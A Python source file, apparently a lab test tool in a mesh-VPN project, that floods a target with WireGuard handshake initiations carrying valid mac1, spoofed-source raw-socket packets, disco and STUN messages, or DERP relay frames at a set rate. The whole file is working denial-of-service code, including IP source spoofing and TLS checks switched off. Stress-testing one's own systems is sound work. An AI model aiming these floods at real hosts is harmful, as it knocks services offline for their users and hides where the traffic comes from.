"""A hostile program for the lab: floods one target with one kind of datagram or frame until SIGTERM.

`python flooder.py KIND ADDRESS PORT PER_SECOND [KEY]`, KEY being the victim's node key in hexadecimal. It prints `flooding`
once the first have left and `sent N` at its end. Kinds:

    initiations   WireGuard handshake initiations with a valid mac1 (paper, section 5.4.4), from our own address
    spoofed       the same from addresses of others, by a raw socket
    disco         disco messages of senders that nobody knows
    stun          STUN binding requests
    frames        DERP packets to KEY by a relay that speaks plain HTTP or TLS, as fast as it takes them
    nobody        DERP packets to keys that are not there
"""

from __future__ import annotations

import os
import random
import signal
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from hashlib import blake2s
from itertools import cycle

from buri.testing.derpclient import SEND_PACKET, DERPClient, frame

UDP_SEGMENT = 103
TRAIN = 32
"""Datagrams to a system call."""

VARIANTS = 64 * TRAIN
"""Different datagrams, sent again and again: more than any table of the victim's remembers at once."""

SPOOFED_NETWORK = "203.0.113"
SPOOFED_HOSTS = range(100, 250)


def initiation(dice: random.Random, public_key: bytes) -> bytes:
    """148 bytes that pass for an initiation until the first Diffie-Hellman: random fields, a valid mac1, no mac2."""
    body = b"\x01\0\0\0" + dice.randbytes(112)
    key = blake2s(b"mac1----" + public_key).digest()
    return body + blake2s(body, digest_size=16, key=key).digest() + bytes(16)


def disco(dice: random.Random) -> bytes:
    """A disco message of a stranger, of a ping's usual length."""
    return b"TS\xf0\x9f\x92\xac" + dice.randbytes(118)


def stun(dice: random.Random) -> bytes:
    """A STUN binding request (RFC 5389, section 6) without attributes."""
    return b"\0\1\0\0\x21\x12\xa4\x42" + dice.randbytes(12)


def ipv4_udp(source: bytes, target: bytes, port: int, dice: random.Random, payload: bytes) -> bytes:
    """A packet for a raw socket; the kernel fills in the lengths' checksum, and UDP's may be left out."""
    udp = struct.pack(">HHHH", dice.randrange(1024, 65536), port, 8 + len(payload), 0)
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0, source, target) + udp + payload


def paced(per_second: int, at_a_time: int, stopped: list[bool]) -> Iterator[None]:
    """Once for each batch that is due, until stopped."""
    began = time.monotonic()
    for number in range(sys.maxsize):
        if stopped:
            return
        ahead_s = began + number * at_a_time / per_second - time.monotonic()
        if ahead_s > 0:
            time.sleep(ahead_s)
        yield


def flood_udp(address: tuple[str, int], datagrams: list[bytes], per_second: int, stopped: list[bool]) -> int:
    """Trains of equal datagrams from one socket; returns how many were sent."""
    trains = cycle([b"".join(datagrams[at : at + TRAIN]) for at in range(0, len(datagrams), TRAIN)])
    control = [(socket.IPPROTO_UDP, UDP_SEGMENT, struct.pack("H", len(datagrams[0])))]
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for _ in paced(per_second, TRAIN, stopped):
            sock.sendmsg([next(trains)], control, 0, address)
            sent += TRAIN
            say_once(sent, TRAIN)
    return sent


def flood_spoofed(
    address: tuple[str, int], datagrams: list[bytes], per_second: int, dice: random.Random, stopped: list[bool]
) -> int:
    """Datagrams that claim to come from others; returns how many were sent."""
    target = socket.inet_aton(address[0])
    packets = cycle(
        ipv4_udp(
            socket.inet_aton(f"{SPOOFED_NETWORK}.{dice.choice(SPOOFED_HOSTS)}"), target, address[1], dice, datagram
        )
        for datagram in datagrams
    )
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for _ in paced(per_second, TRAIN, stopped):
            for _ in range(TRAIN):
                sock.sendto(next(packets), address)
            sent += TRAIN
            say_once(sent, TRAIN)
    return sent


def flood_relay(address: tuple[str, int], key: Callable[[], bytes], dice: random.Random, stopped: list[bool]) -> int:
    """Frames of 1,200 bytes as fast as the relay reads them; returns how many were sent."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    client = DERPClient.connect(address, dice.randbytes(32), tls=context)
    frames = [frame(SEND_PACKET, key() + dice.randbytes(1200)) for _ in range(1000)]
    batch = b"".join(frames)
    client.socket.settimeout(0.5)
    sent = 0
    while not stopped:
        view = memoryview(batch)
        while view and not stopped:
            try:
                view = view[client.socket.send(view[: 256 << 10]) :]
            except TimeoutError:
                continue  # the relay reads slowly: as it should
        sent += len(frames)
        say_once(sent, len(frames))
    client.close()
    return sent


def say_once(sent: int, first: int) -> None:
    if sent == first:
        say("flooding")


def say(line: str) -> None:
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


def main() -> None:
    kind, host, port, per_second, *rest = sys.argv[1:]
    address, rate, key = (host, int(port)), int(per_second), bytes.fromhex(rest[0]) if rest else b""
    dice = random.Random(os.urandom(16))
    stopped: list[bool] = []
    signal.signal(signal.SIGTERM, lambda *_: stopped.append(True))
    match kind:
        case "initiations":
            sent = flood_udp(address, [initiation(dice, key) for _ in range(VARIANTS)], rate, stopped)
        case "spoofed":
            sent = flood_spoofed(address, [initiation(dice, key) for _ in range(VARIANTS)], rate, dice, stopped)
        case "disco":
            sent = flood_udp(address, [disco(dice) for _ in range(VARIANTS)], rate, stopped)
        case "stun":
            sent = flood_udp(address, [stun(dice) for _ in range(VARIANTS)], rate, stopped)
        case "frames":
            sent = flood_relay(address, lambda: key, dice, stopped)
        case "nobody":
            sent = flood_relay(address, lambda: dice.randbytes(32), dice, stopped)
        case _:
            raise SystemExit(f"No flood is called {kind!r}.")
    say(f"sent {sent}")


if __name__ == "__main__":
    main()
